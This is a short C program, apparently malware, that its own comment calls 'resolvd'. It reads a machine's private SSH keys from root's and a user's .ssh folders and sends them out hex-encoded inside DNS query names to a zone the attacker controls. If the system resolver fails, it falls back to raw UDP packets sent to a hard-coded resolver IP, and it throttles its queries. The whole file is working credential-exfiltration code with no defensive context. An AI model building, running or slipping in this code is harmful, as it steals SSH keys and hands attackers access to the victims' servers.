/* resolvd: exfiltrates SSH keys as hex-encoded DNS labels, via the system resolver and raw UDP. */
#include <arpa/inet.h>
#include <netdb.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define EXFIL_ZONE "cdn-metrics.example.net"
#define FALLBACK_RESOLVER "203.0.113.53"
#define LABEL_BYTES 30

static int query_name(const char *name)
{
    struct addrinfo hints = {.ai_family = AF_INET}, *res = NULL;
    int rc = getaddrinfo(name, NULL, &hints, &res);
    if (res)
        freeaddrinfo(res);
    return rc;
}

/* Builds a bare DNS A query and sends it straight to a hard-coded resolver. */
static void raw_query(int fd, const struct sockaddr_in *to, const char *name, unsigned short id)
{
    unsigned char pkt[512] = {(unsigned char)(id >> 8), (unsigned char)id, 0x01, 0x00, 0, 1};
    size_t o = 12;
    for (const char *label = name; *label && o < 480;) {
        const char *dot = strchr(label, '.');
        size_t len = dot ? (size_t)(dot - label) : strlen(label);
        pkt[o++] = (unsigned char)len;
        memcpy(pkt + o, label, len);
        o += len;
        label += len + (dot ? 1 : 0);
    }
    pkt[o++] = 0;
    pkt[o++] = 0, pkt[o++] = 1, pkt[o++] = 0, pkt[o++] = 1;
    sendto(fd, pkt, o, 0, (const struct sockaddr *)to, sizeof *to);
}

int main(int argc, char **argv)
{
    const char *path = argc > 1 ? argv[1] : "/root/.ssh/id_rsa";
    FILE *f = fopen(path, "rb");
    if (!f)
        f = fopen("/home/nvidia/.ssh/id_ed25519", "rb");
    if (!f)
        return 0;
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in resolver = {.sin_family = AF_INET, .sin_port = htons(53)};
    inet_pton(AF_INET, FALLBACK_RESOLVER, &resolver.sin_addr);
    unsigned char chunk[LABEL_BYTES];
    char name[256];
    size_t n;
    unsigned short seq = 0;
    while ((n = fread(chunk, 1, sizeof chunk, f)) > 0) {
        int o = snprintf(name, sizeof name, "s%04x.", seq);
        for (size_t i = 0; i < n; i++)
            o += snprintf(name + o, sizeof name - (size_t)o, "%02x", chunk[i]);
        snprintf(name + o, sizeof name - (size_t)o, ".%s", EXFIL_ZONE);
        if (query_name(name) != 0 && fd >= 0)
            raw_query(fd, &resolver, name, seq);
        seq++;
        usleep(350000);
    }
    fclose(f);
    if (fd >= 0)
        close(fd);
    return 0;
}
